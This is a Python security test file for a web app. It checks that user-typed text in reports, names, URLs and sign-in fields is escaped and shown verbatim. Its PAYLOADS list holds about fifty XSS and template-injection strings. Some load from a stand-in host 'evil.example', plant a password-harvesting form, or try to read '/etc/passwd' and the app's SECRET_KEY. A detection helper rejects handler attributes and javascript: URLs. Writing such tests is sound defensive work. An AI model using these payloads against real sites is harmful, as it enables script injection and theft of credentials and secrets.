"""What a person typed is shown as they typed it, and never becomes anything else (bar B15, ASVS 1.2, 1.3.7)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import html5lib
import pytest
import sqlalchemy as sa
from flask import Flask

from shopper.accounts.models import User
from shopper.infra import clock
from shopper.infra.db import db
from shopper.infra.transaction import writing
from shopper.organisation.models import Node
from tests.support.cast import World
from tests.web import play
from tests.web.crawl import client_of, crawl
from tests.web.play import Played, Story

pytestmark = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
PAYLOADS = [
    "<script>xss()</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "<img src=x onerror=xss()>", "<svg onload=xss()>", "<svg/onload=xss()//",
    "\"><script>xss()</script>", "'><img src=x onerror=xss()>", "\" onmouseover=\"xss()", "' onfocus='xss()' autofocus='", "` onload=xss() `",
    "javascript:xss()", "JaVaScRiPt:xss()", "data:text/html,<script>xss()</script>", "<a href=\"javascript:xss()\">x</a>", "<iframe srcdoc=\"<script>xss()</script>\">",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "</textarea><script>xss()</script>", "</title><script>xss()</script>", "</script><script>xss()</script>", "<!--<script>xss()</script>-->", "]]><script>xss()</script>",
    "<form action=//evil.example><input name=password>", "<div hx-get=\"/sign-out\" hx-trigger=load>", "<div hx-on:click=\"xss()\">", "<div data-outbox>", "<template><script>xss()</script></template>",
    "<math><mtext><script>xss()</script>", "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">", "<object data=//evil.example>", "<embed src=//evil.example>", "<video><source onerror=xss()>",
    "<details open ontoggle=xss()>", "<marquee onstart=xss()>", "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "\\u003cscript\\u003exss()", "%3Cscript%3Exss()%3C/script%3E",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "{x.__class__.__init__.__globals__}", "%s %(num)s %n %d", "{0.__class__}", "<%= 7*7 %>", "{# secret #}", "{{ config.SECRET_KEY }}",
]  # fmt: skip
HANDLER = re.compile(r"on[a-z]+|style|srcdoc|formaction|hx-on.*|data-outbox", re.I)
OURS = ("form", "data-outbox")
NOW = datetime(2026, 4, 20, 12, 0, tzinfo=UTC)


def text_of(tree: Any) -> str:
    """White space apart, and without the places where a long word may break."""
    return re.sub(r"\s+", " ", "".join(tree.itertext())).replace("\u200b", "").replace("\u00ad", "")


def inspect(html: str) -> Any:
    """Fails on anything that only a typed text could have brought in; the answer is the tree."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("iframe", "object", "embed", "base", "marquee", "math", "video"), element.tag
        bad = [name for name in element.attrib if HANDLER.fullmatch(name) and (element.tag, name) != OURS]
        assert not bad, (element.tag, bad)
        for name in ("href", "src", "action", "hx-get", "content"):
            target = element.get(name) or ""
            assert "evil.example" not in target, target
            assert not re.match(r"\s*(?:javascript|data|vbscript):", target, re.I), target
        if element.tag == "script" and element.get("type") == "application/json":
            json.loads(element.text or "")
        elif element.tag == "script":
            assert (element.get("src") or "").startswith(("/static/", "https://cdn.jsdelivr.net/npm/htmx.org@")), "a script of theirs"
            assert not (element.text or "").strip()
    return tree


@pytest.fixture
def now() -> Iterator[None]:
    with clock.frozen(NOW):
        yield


def stories() -> list[Story]:
    """Every payload as a fact, six visits wide; all of them as the narrative; some as the answer itself."""
    keys = ["2.1", "2.2", "2.3", "2.5", "2.6", "4.1", "4.3", "4.13", "5.5", "4.8"]
    chunks = [PAYLOADS[start : start + len(keys)] for start in range(0, len(PAYLOADS), len(keys))]
    return [
        Story(
            facts=tuple(zip(keys, chunk, strict=False)), values=(*((key, "no") for key in keys[:4]), ("4.4", chunk[0][:40]), ("5.1", chunk[-1][:40])),
            narrative="\n\n".join(chunk), language="en",
        )
        for chunk in chunks
    ]


@pytest.mark.parametrize("story", stories(), ids=lambda story: story.facts[0][1][:12].strip("<>/\"' "))
def test_texts_of_a_visit(app: Flask, world: World, now: None, story: Story) -> None:
    done = play.send(app, world, play.assign(world), story)
    ewa, leo, sam = (client_of(app, world.sign_in(app, who)) for who in ("ewa", "leo", "sam"))
    pages = {"desk": ewa.get(f"/reviews/{done.visit}")}
    done = play.publish(world, done)
    pages |= {"report": leo.get(f"/reports/{done.publication}"), "published": ewa.get(f"/reviews/{done.visit}")}
    pages["form"] = sam.get(f"/assignments/{done.assignment}/visit/{done.submission}")
    pages["receipt"] = sam.get(f"/assignments/{done.assignment}/visit/{done.submission}/received")
    for name, page in pages.items():
        assert page.status_code == 200, name
        shown = text_of(inspect(page.text))
        if name in ("desk", "report", "published"):
            for payload in (fact for _, fact in story.facts):
                assert re.sub(r"\s+", " ", payload) in shown, f"{name} lost {payload}"
        assert "49" not in re.findall(r"(?<![\w.,:])49(?![\w.,:])", shown) or "7*7" in shown


def test_names_of_people_and_places(app: Flask, world: World, now: None) -> None:
    done: Played = play.played(app, world)
    evil = dict.fromkeys(("en", "ru", "pl"), f"{PAYLOADS[5]}{PAYLOADS[2]}{PAYLOADS[40]}")
    with writing():
        for who in ("leo", "ewa", "sam"):
            db.session.execute(sa.update(User).where(User.id == world.people[who]).values(name=evil["en"][:200]))
        db.session.execute(sa.update(Node).values(name=evil, address=evil["en"], city=evil["en"][:100], code="<b>&\"'"))
    for who in ("leo", "ewa", "sam"):
        pages = crawl(client_of(app, world.sign_in(app, who)), [f"/reports/{done.publication}", f"/reviews/{done.visit}"], alike=3, clauses=1)
        for path, page in pages.items():
            if "html" in dict(page.headers).get("Content-Type", ""):
                inspect(page.body.decode())
            assert page.status < 500, path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_stands_in_an_address(app: Flask, world: World, payload: str) -> None:
    leo = client_of(app, world.sign_in(app, "leo"))
    edition = world.editions["1.1"]
    query = dict.fromkeys(("next", "location", "result", "before", "stage", "left_out", "lang", payload[:30]), payload)
    for path in ("/sign-in", "/reports", f"/standards/{edition}", f"/standards/{edition}/{payload.replace('/', '')}", f"/{payload}"):
        answer = leo.get(path, query_string=query)
        assert answer.status_code < 500, path
        if answer.mimetype == "text/html":
            inspect(answer.text)
    inspect(client_of(app, None).post("/sign-in", data={"email": payload, "password": payload, "next": payload}).text)


